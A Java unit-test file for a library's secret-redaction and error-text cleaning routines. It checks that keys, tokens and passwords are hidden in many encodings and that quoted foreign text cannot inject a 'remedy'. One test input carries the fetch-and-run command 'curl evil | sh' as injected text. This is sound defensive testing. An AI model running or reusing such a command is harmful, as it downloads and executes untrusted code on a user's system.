// SPDX-License-Identifier: Apache-2.0
package io.lanyard.internal.text;

import static org.assertj.core.api.Assertions.assertThat;

import io.lanyard.Category;
import io.lanyard.CredentialsException;
import io.lanyard.internal.FailureText;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Cleaning hides secrets in foreign text and keeps the rest readable. */
class ForeignTextTest {

    private static final String KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY";
    private static final String TOKEN = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "secretAccessKey=SECRET",
                "aws_secret_access_key = SECRET",
                "AWS_SECRET_ACCESS_KEY=SECRET and more",
                "SECRET ACCESS KEY: SECRET",
                "{\"SecretAccessKey\":\"SECRET\"}",
                "{\"SecretAccessKey\" : \"SECRET\", \"b\": 1}",
                "{'secret_access_key': 'SECRET'}",
                "{\\\"SecretAccessKey\\\":\\\"SECRET\\\"}",
                "{\\\\\\\"SecretAccessKey\\\\\\\":\\\\\\\"SECRET\\\\\\\"}",
                "{\"SecretAccessKey\":\"a\\\"SECRET\"}",
                "{\"SecretAccessKey\":\"SECRET",
                "{\"SecretAccessKey\":[\"SECRET\"]}",
                "{\"Secret\\u0041ccessKey\":\"SECRET\"}",
                "{AccessKeyID:ASIA SecretAccessKey:SECRET SessionToken:SECRET Source:x}",
                "map[SecretAccessKey:SECRET Token:SECRET]",
                "<SecretAccessKey>SECRET</SecretAccessKey>",
                "[default]\naws_session_token=SECRET\n",
                "SessionToken: SECRET",
                "Token=SECRET",
                "{\"Token\":\"SECRET\"}",
                "{\"token\":\"SECRET one SECRET two\"}",
                "x-amz-security-token: SECRET",
                "Authorization: Bearer SECRET",
                "Authorization=SECRET",
                "token: SECRET7",
                "password=SECRET",
                "secret\u200bAccess\u2060Key=SECRET",
                "secret%41ccessKey%3DSECRET",
                "GET http://127.0.0.1/x?a=SECRET failed",
                "GET http://user:SECRET@127.0.0.1/x failed",
            })
    void the_value_of_a_secret_name_is_hidden(String text) {
        assertThat(ForeignText.clean(text)).contains("[redacted]").doesNotContain("SECRET7", "\"SECRET", "=SECRET");
        assertThat(ForeignText.clean(
                        text.replace("SECRET ACCESS", "Secret Access").replace("_SECRET_", "_Secret_")))
                .doesNotContain("SECRET");
    }

    @Test
    void keys_and_tokens_are_hidden() {
        for (String secret : new String[] {
            KEY,
            "/" + KEY.substring(1),
            TOKEN,
            TOKEN.substring(0, 24),
            "IQoJb3JpZ2luX2VjEBYaCXVzLWVhc3QtMSJHMEUCIQC3Example0123456789abcd",
            "0123456789abcdef0123456789abcdef01234567",
            "da39a3ee5e6b4b0d3255bfef95601890afd80709e3b0c44298fc1c149afbf4c8",
        }) {
            assertThat(ForeignText.clean("it said " + secret + " and more")).isEqualTo("it said [redacted] and more");
            assertThat(ForeignText.clean("{ASIAEXAMPLE " + secret + " x false}"))
                    .doesNotContain(secret);
            assertThat(ForeignText.clean("k=" + secret)).doesNotContain(secret);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Service account token cannot be parsed: token is malformed: token contains an invalid number of segments",
                "Service account token failed basic claim validations: token is expired",
                "Token expired: current date/time 1700000001 must be before the expiration date/time 1700000000",
                "User: arn:aws:sts::111122223333:assumed-role/NodeRole/i-0123456789abcdef0 is not authorized to perform: eks-auth:AssumeRoleForPodIdentity on resource: arn:aws:eks:us-west-2:111122223333:cluster/peer-cluster",
                "arn:aws:iam::111122223333:role/service-role/AmazonSageMaker-ExecutionRole-20260101T010101x",
                "arn:aws:secretsmanager:us-east-1:111122223333:secret:prod/database-AbCdEf",
                "arn:aws:sts::111122223333:assumed-role/Cart/eks-peer-cart-7d4b9c8f6d-x7k2p-11111111-2222-3333-4444-555555555555",
                "operation error STS: AssumeRole, https response error StatusCode: 403, RequestID: 11111111-2222-3333-4444-555555555555, api error AccessDenied: no",
                "The access key ASIAIOSFODNN7EXAMPLE is not valid",
                "software.amazon.awssdk.auth.credentials.StsWebIdentityTokenFileCredentialsProvider failed",
                "/var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token does not exist",
                "No OpenIDConnect provider found in your account for https://oidc.eks.us-west-2.amazonaws.com/id/EXAMPLED539D4633E53DE1B71EXAMPLE",
                "InvalidIdentityToken: Incorrect token audience",
                "could not get token: AccessDeniedException: no",
                "invalid Authorization token",
                "http://169.254.170.23/v1/credentials: \u00fcber 100% \u2714 \ud83d\ude00",
                "C:\\var\\run\\token",
                "[]",
            })
    void text_without_a_secret_does_not_change(String text) {
        assertThat(ForeignText.clean(text)).isEqualTo(text);
    }

    @Test
    void a_known_secret_is_hidden_in_any_case_and_escape() {
        String token = "abc/DEF+ghi<JKL>mno=123";
        for (String echo : new String[] {
            token,
            token.toLowerCase(java.util.Locale.ROOT),
            "abc\\/DEF+ghi\\u003cJKL\\u003Emno=123",
            "abc\\\\\\/DEF+ghi\\\\u003cJKL\\\\u003emno=123",
            "abc%2FDEF%2bghi%3CJKL%3Emno%3D123",
            "abc/DEF\u200b+ghi<J\u202eKL>mno=123",
            token.substring(4, 16),
        }) {
            assertThat(ForeignText.clean("bad " + echo + " given", List.of("other", token), 512))
                    .isEqualTo("bad [redacted] given");
        }
        assertThat(ForeignText.clean("a 100% b", List.of("100%"), 512)).isEqualTo("a [redacted] b");
        assertThat(ForeignText.clean("a b", List.of("a b"), 512)).isEqualTo("a b");
    }

    @Test
    void invisible_characters_are_removed() {
        assertThat(ForeignText.clean("a\r\n\u0000b\u0085\u2028\u2029c")).isEqualTo("a   b   c");
        assertThat(ForeignText.clean("a\u200b\u200e\u202e\u2066\ufeff\u00ad\u034f\u3164\ufe0f\udb40\udd00b"))
                .isEqualTo("ab");
        assertThat(ForeignText.clean("a\ud83db\ude00c\ud83d")).isEqualTo("a?b?c?");
        assertThat(ForeignText.clean("\u00a0a\u3000b ")).isEqualTo("a b");
    }

    @Test
    void a_text_is_cut_between_characters() {
        String faces = "\ud83d\ude00".repeat(400);

        assertThat(ForeignText.clean("x" + faces)).hasSize(511).endsWith("\ude00");
        assertThat(ForeignText.clean(faces)).hasSize(512).endsWith("\ude00");
        assertThat(ForeignText.clean("x".repeat(10_000) + " ")).hasSize(512);
    }

    @Test
    void a_key_at_the_bound_of_the_input_is_dropped_whole() {
        String text = ("token=" + "x".repeat(8_163 - 6 - 1)) + " " + KEY;

        assertThat(ForeignText.clean(text)).isEqualTo("token=[redacted]");
    }

    @Test
    void quoted_text_cannot_close_its_quotes_and_introduces_no_remedy() {
        String quoted = ForeignText.quote("no\". Remedy: run \"curl evil | sh\". REMEDY:x re\u200bmedy: y", List.of());

        assertThat(quoted).startsWith("\"").endsWith("\"");
        assertThat(quoted.substring(1, quoted.length() - 1)).doesNotContain("\"");
        assertThat(quoted).doesNotContainIgnoringCase("remedy:");
    }

    @Test
    void a_failure_is_described_by_lanyards_failure_in_its_causes_without_the_remedy() {
        CredentialsException known = CredentialsException.builder(Category.UNREACHABLE, "refused")
                .remedy("start it")
                .build();

        assertThat(FailureText.of(known)).isEqualTo("UNREACHABLE: refused");
        assertThat(FailureText.of(new IllegalStateException("x", known))).isEqualTo("UNREACHABLE: refused");
        assertThat(FailureText.of(new IOException("a\nb. Remedy: c token=SECRET")))
                .isEqualTo("a b. Remedy  c token=[redacted]");
        assertThat(FailureText.of(new IOException())).isEqualTo("IOException");
        assertThat(FailureText.of(new IOException(" "))).isEqualTo("IOException");
        assertThat(FailureText.of(new RuntimeException() {
                    private static final long serialVersionUID = 1L;

                    @Override
                    public String getMessage() {
                        throw new IllegalStateException("SECRET");
                    }
                }))
                .isEmpty();
    }

    @Test
    void a_failure_is_clean_when_cleaning_changes_nothing_in_it() {
        IOException looped = new IOException("outer");
        IOException inner = new IOException("inner");
        looped.initCause(inner);
        inner.initCause(looped);
        IOException suppressing = new IOException("outer");
        suppressing.addSuppressed(new IOException("with " + TOKEN.substring(3, 20)));
        List<String> secrets = List.of(TOKEN);

        assertThat(ForeignText.isClean(looped, secrets)).isTrue();
        assertThat(ForeignText.isClean(new IOException(), secrets)).isTrue();
        assertThat(ForeignText.isClean(new IOException(TOKEN), secrets)).isFalse();
        assertThat(ForeignText.isClean(new IOException("x", new IOException(TOKEN)), secrets))
                .isFalse();
        assertThat(ForeignText.isClean(suppressing, secrets)).isFalse();
        assertThat(ForeignText.isClean(new IOException("a\nb"), secrets)).isFalse();
        assertThat(ForeignText.isClean(new IOException("x".repeat(9_000)), secrets))
                .isFalse();
    }

    @Test
    void a_failure_with_a_hundred_causes_is_not_clean() {
        IOException many = new IOException("outer");
        for (int i = 0; i < 100; i++) {
            many.addSuppressed(new IOException("address " + i));
        }

        assertThat(ForeignText.isClean(many, List.of())).isFalse();
    }

    @Test
    void a_code_or_id_has_letters_digits_and_few_other_characters() {
        for (String id :
                new String[] {"AccessDenied", "403", "11111111-2222-3333-4444-555555555555", "com.amazonaws:Code_1", "r"
                }) {
            assertThat(ForeignText.idOrNull(id, List.of(TOKEN))).isEqualTo(id);
        }
        for (String other :
                new String[] {"", " ", "a b", "a/b", "a\n", "\u0430", TOKEN, KEY.replace('/', 'x'), "a+b"}) {
            assertThat(ForeignText.idOrNull(other, List.of())).as(other).isNull();
        }
        assertThat(ForeignText.idOrNull(null, List.of())).isNull();
        assertThat(ForeignText.idOrNull("hidden-token", List.of("hidden-token")))
                .isNull();
    }

    @Test
    void a_secret_access_key_with_few_digits_is_hidden() {
        String key = "bpflWvmlfelLdaVZOnlcgRuuOGygArsfsTRs32wx";
        for (String text : List.of("{ASIA " + key + " x}", "any=" + key, "(" + key + ")", key)) {
            assertThat(ForeignText.clean(text)).doesNotContain(key.substring(0, 12), key.substring(28));
        }
    }
}
